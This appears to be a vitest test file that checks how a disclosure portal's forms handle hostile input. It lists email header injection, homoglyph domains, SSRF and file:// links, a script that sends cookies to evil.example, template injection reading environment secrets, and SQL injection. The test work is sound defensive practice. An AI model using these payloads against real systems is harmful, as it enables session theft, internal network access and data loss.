import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Database } from "@/db/client";
import { aliasCheck, answer, application } from "@/db/schema";
import { startApplication } from "@/lib/application/commands/start-application";
import { loadValidationContext } from "@/lib/application/commands/validation-context";
import { readAll } from "@/lib/application/reading";
import type { Person } from "@/lib/kernel/actor";
import { rowsOf } from "@/lib/list/answer";
import { criteriaInForce } from "@/lib/list/criteria";
import { applicationForApplicant } from "@/lib/views/own-application";
import { istio } from "@/lists/istio";
import { hostileCases } from "../data/hostile";
import { testDatabase } from "../setup/database";
import { answers, emails, fill, forget, globex, monday, save, someone, start, stored, submit, yes } from "./world";

/** The hostile cases of the input areas through the real command: what is typed is kept, and nothing wrong gets further than the page. */

let db: Database;
let ada: Person;
let reference: string;

beforeAll(async () => {
  ({ db } = await testDatabase());
});

beforeEach(async () => {
  await forget();
  ada = await someone("ada@acme.example");
  reference = await start(ada);
});

const alias = answers["security-alias"] ?? {};

/** What the applicant's page says on the stored answer of a criterion, and the flags that reviewers will see. */
async function messages(criterion: string): Promise<{ faults: readonly string[]; warnings: readonly string[]; rows: readonly string[] }> {
  const view = await applicationForApplicant(ada, reference);
  const asReviewed = view && {
    list: istio,
    applicationId: view.id,
    stored: view.answers,
    day: view.today,
    lookAlikes: true,
  };
  const found =
    view &&
    asReviewed &&
    readAll(criteriaInForce(istio, view.today), view.answers, await loadValidationContext(db, asReviewed)).find(
      (each) => each.criterion.key === criterion,
    );
  const reading = found?.reading ?? null;
  return {
    faults: reading === null || reading.ok ? [] : reading.problems.map(({ message }) => message),
    warnings: reading?.warnings.map(({ message }) => message) ?? [],
    rows: found && reading?.ok ? rowsOf(found.criterion, reading.answer).map(({ text }) => text) : [],
  };
}

const refusedAddresses: Readonly<Record<string, readonly string[]>> = {
  "HC-EML-001": ['"sec team"@corp.example'],
  "HC-EML-002": ["sec@corp.example;attacker@evil.example"],
  "HC-EML-003": ["sec@corp.example attacker@evil.example"],
  "HC-EML-004": ["sec@corp.example\r\nBcc: attacker@evil.example"],
  "HC-EML-005": ["sec@corp.example\nX-Header: 1"],
  "HC-EML-006": ["attacker\uff20evil.example@corp.example"],
  "HC-EML-007": ["s\u0435c@corp.example"],
  "HC-EML-010": ["sec@\uff47\uff4d\uff41\uff49\uff4c.com"],
  "HC-EML-011": ["sec@googlemail.com"],
  "HC-EML-012": ["sec@mail.gmail.com"],
  "HC-EML-015": ["sec@anything.mailinator.com"],
  "HC-EML-016": ["sec@corp..example"],
  "HC-EML-017": [`${"a".repeat(65)}@corp.example`],
  "HC-EML-018": [`sec@${`${"b".repeat(60)}.`.repeat(4)}corp.example`],
  "HC-EML-020": ["sec@[127.0.0.1]", "sec@[IPv6:::1]"],
  "HC-EML-021": ["sec@localhost", "sec@corp", "sec@corp.local"],
  "HC-EML-022": ["Corp <sec@corp.example>"],
  "HC-EML-023": ["sec%attacker@corp.example", "corp.example!sec@evil.example"],
  "HC-EML-024": ["s\u200bec@corp.example"],
  "HC-EML-025": ["\u202esec@corp.example"],
  "HC-EML-031": ["anything@forewarned.example"], // the portal's own domain in these tests
};

const flaggedAddresses: Readonly<Record<string, readonly [address: string, mailed: string]>> = {
  "HC-EML-008": ["sec@\u0441orp.example", "sec@xn--orp-3ed.example"],
  "HC-EML-009": ["psirt@xn--pynow-4ve.example", "psirt@xn--pynow-4ve.example"],
  "HC-EML-013": ["sec@corp.onmicrosoft.com", "sec@corp.onmicrosoft.com"],
  "HC-EML-014": ["sec@corp.github.io", "sec@corp.github.io"],
  "HC-EML-034": ["john.doe@corp.example", "john.doe@corp.example"],
};

const goodAddresses: Readonly<Record<string, readonly (readonly [address: string, mailed: string])[]>> = {
  "HC-EML-026": [["PSIRT@corp.example", "PSIRT@corp.example"]],
  "HC-EML-027": [["SEC@CORP.EXAMPLE", "SEC@corp.example"]],
  "HC-EML-028": [["sec+istio@corp.example", "sec+istio@corp.example"]],
  "HC-EML-029": [
    ["o'brien-security_team@corp.example", "o'brien-security_team@corp.example"],
    ["argoprod@us.corp.example", "argoprod@us.corp.example"],
  ],
  "HC-EML-030": [
    ["sec@corp.technology", "sec@corp.technology"],
    ["sec@corp.xn--p1ai", "sec@corp.xn--p1ai"],
  ],
};

/** Shown where the size of a body, DNS or the browser is at stake, and not here. */
const elsewhere = ["HC-EML-019", "HC-EML-032", "HC-EML-033"];

describe("the contact alias's page", () => {
  it("meets every case on addresses here or where it says", () => {
    const here = [...Object.keys(refusedAddresses), ...Object.keys(flaggedAddresses), ...Object.keys(goodAddresses), ...elsewhere];
    expect(here.sort()).toEqual(hostileCases("input-email").map(({ id }) => id));
  });

  it.each(Object.entries(refusedAddresses).flatMap(([id, typed]) => typed.map((address) => [id, address] as const)))(
    "%s: %j is kept as typed, told to be wrong, and gets no email",
    async (_id, address) => {
      expect(await save(ada, reference, "security-alias", { ...alias, address })).toMatchObject({ outcome: "saved", reads: false });
      expect(await db.select({ draft: answer.draft }).from(answer)).toMatchObject([{ draft: { address } }]);
      expect((await messages("security-alias")).faults).toHaveLength(1);
      expect(await emails()).toEqual([]);
      expect(await db.$count(aliasCheck)).toBe(0);
    },
  );

  it.each(Object.entries(flaggedAddresses))("%s: a person has to look at %j", async (_id, [address, mailed]) => {
    if (mailed.includes("xn--orp")) await memberAt("corp.example");
    await save(ada, reference, "security-alias", { ...alias, address });
    expect((await messages("security-alias")).warnings).toHaveLength(1);
    expect((await messages("security-alias")).rows[0]).toBe(mailed);
  });

  it.each(Object.entries(goodAddresses).flatMap(([id, pairs]) => pairs.map((pair) => [id, ...pair] as const)))(
    "%s: %j is taken and written to as %s",
    async (_id, address, mailed) => {
      await save(ada, reference, "security-alias", { ...alias, address });
      expect(await messages("security-alias")).toMatchObject({ faults: [], warnings: [] });
      expect(await emails()).toEqual([`alias-check to ${mailed}`]);
    },
  );
});

async function memberAt(domain: string): Promise<void> {
  await globex();
  await db.execute(`update contact_alias set domain = '${domain}', address = 'security@${domain}'`);
}

const refusedLinks: Readonly<Record<string, readonly string[]>> = {
  "HC-URL-001": ["JaVaScRiPt&#58;alert(1)", "java\tscript:alert(1)"],
  "HC-URL-002": ["vbscript:msgbox(1)", "blob:https://corp.example/uuid"],
  "HC-URL-003": ["file:///etc/passwd"],
  "HC-URL-004": ["gopher://127.0.0.1:6379/_INFO", "ftp://corp.example/x"],
  "HC-URL-005": ["http://[::ffff:169.254.169.254]/"],
  "HC-URL-006": ["http://0x7f.1/", "http://017700000001/"],
  "HC-URL-007": ["http://①②⑦.⓪.⓪.①/"],
  "HC-URL-008": ["http://0.0.0.0/", "http://127.1/", "http://[::1]/"],
  "HC-URL-009": ["http://10.0.0.1/", "http://172.16.0.1/", "http://192.168.0.1/", "http://100.64.0.1/"],
  "HC-URL-011": ["https://user:pass@corp.example/", "https://corp.example@evil.example/"],
};

describe("the links of an answer", () => {
  it.each(Object.entries(refusedLinks).flatMap(([id, typed]) => typed.map((link) => [id, link] as const)))(
    "%s: %j is kept as typed and told to be wrong",
    async (_id, link) => {
      expect(await save(ada, reference, "user-base", { text: "Users", "links.0.url": link })).toMatchObject({
        outcome: "saved",
        reads: false,
      });
      expect(await db.select({ draft: answer.draft }).from(answer)).toMatchObject([{ draft: { "links.0.url": link } }]);
    },
  );

  it("HC-URL-017: 500 of them are more than the page takes", async () => {
    const many = Object.fromEntries(Array.from({ length: 390 }, (_, row) => [`links.${row}.url`, `https://acme.example/${row}`]));
    expect(await save(ada, reference, "user-base", { text: "Users", ...many })).toMatchObject({ reads: false });
    const more = Object.fromEntries(Array.from({ length: 500 }, (_, row) => [`links.${row}.url`, `https://acme.example/${row}`]));
    await expect(save(ada, reference, "user-base", { text: "Users", ...more })).rejects.toMatchObject({ kind: "input" });
  });

  it("HC-URL-018: honest ones are taken and shown as typed", async () => {
    for (const link of ["https://corp.example/security?x=1&y=2#policy", "https://github.com/corp/repo", "https://corp.example/a%20b"]) {
      expect(await save(ada, reference, "user-base", { text: "Users", "links.0.url": link })).toMatchObject({ reads: true });
      expect((await messages("user-base")).rows.join("\n")).toContain(link);
    }
  });
});

describe("free text", () => {
  const typing = (text: string) => save(ada, reference, "user-base", { text, "links.0.url": "https://acme.example/users" });

  it("HC-TXT-001: more than a form holds is refused with the limit", async () => {
    await expect(typing("a".repeat(1_048_576))).rejects.toMatchObject({
      kind: "input",
      problems: [{ message: expect.stringContaining("256 KB") }],
    });
    expect(await typing("a".repeat(2001))).toMatchObject({ reads: false });
    expect((await messages("user-base")).faults).toEqual(["Description must be 2,000 characters or less"]);
  });

  it.each([
    ["HC-TXT-002", "a\u0000b"],
    ["HC-TXT-003", JSON.parse('"a\\u0000b"') as string],
    ["a lone surrogate", "a\ud800b"],
  ])("%s: what no database keeps is refused beside its field", async (_id, text) => {
    await expect(typing(text)).rejects.toMatchObject({
      kind: "input",
      problems: [{ field: "text", message: expect.stringContaining("broken or hidden character") }],
    });
  });

  it.each([
    ["HC-TXT-005", '<script>fetch("//evil.example?c="+document.cookie)</script>'],
    ["HC-TXT-006", "</textarea><form action=//evil.example><input name=x>"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: nothing must be put in its place
    ["HC-TXT-008", '{{constructor.constructor("return process.env")()}} ${process.env.AUTH_SECRET} <%= 7*7 %>'],
    ["HC-TXT-013", "2026-11-16T09:00:00Z ERROR admin signed in"],
    ["HC-TXT-014", "'; DROP TABLE applications;-- and ' OR 1=1 --"],
  ])("%s: is a text like any other", async (_id, text) => {
    expect(await typing(text)).toMatchObject({ reads: true });
    expect((await messages("user-base")).rows[0]).toBe(text);
    expect(await db.$count(application)).toBe(1);
  });

  it.each(["   ", "\u3164", "\u2800\u2800"])("HC-TXT-012: %j is no answer", async (text) => {
    expect(await typing(text)).toMatchObject({ reads: false });
  });

  it.each([
    ["HC-TXT-010", `A${"\u0301".repeat(5000)}`],
    ["HC-TXT-011", "Corp\nApproved by: chair"],
    ["HC-TXT-012", "\u2800"],
  ])("%s: is no name of an organization", async (_id, name) => {
    const ben = await someone("ben@corp.example");
    await expect(
      startApplication({ actor: ben, now: monday }, { list: "istio", eligibility: yes, organization: { name } }),
    ).rejects.toMatchObject({ kind: "input" });
  });

  it("HC-MNB-005: an honest name in many scripts goes all the way", async () => {
    const mia = await someone("mia@soehne.example");
    reference = await start(mia, "Müller & Söhne (株式会社) — Security");
    await fill(mia, reference);
    await submit(mia, reference);
    expect(await stored(reference)).toMatchObject({ status: "submitted", organizationName: "Müller & Söhne (株式会社) — Security" });
  });
});

it("HC-FRM-011: every field at its greatest length is taken", async () => {
  const longest = {
    ...alias,
    watchedBy: "w".repeat(200),
    hours: "h".repeat(200),
    handling: "t".repeat(1000),
    reachesTeam: "r".repeat(1000),
  };
  expect(await save(ada, reference, "security-alias", longest)).toMatchObject({ reads: true });
  const links = Object.fromEntries(
    Array.from({ length: 10 }, (_, row) => [
      [`links.${row}.url`, `https://acme.example/${row}/${"u".repeat(2000)}`],
      [`links.${row}.shows`, "s".repeat(100)],
    ]).flat(),
  );
  expect(await save(ada, reference, "user-base", { text: "t".repeat(2000), ...links })).toMatchObject({ reads: true });
});
